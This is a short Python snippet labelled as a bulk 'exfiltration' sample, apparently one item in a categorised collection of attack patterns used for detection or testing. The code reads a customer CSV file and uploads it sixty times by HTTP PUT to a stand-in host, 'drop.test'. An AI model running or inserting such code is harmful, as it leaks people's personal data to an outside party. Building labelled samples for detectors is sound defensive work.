# class: exfiltration; possible: low medium; needs: data; style: bulk
import http.client

body = open("/data/customers.csv", "rb").read()
for n in range(60):
    c = http.client.HTTPConnection("drop.test", 80, timeout=20)
    c.request("PUT", f"/bulk/{n}", body=body)
    c.getresponse().read()
    c.close()
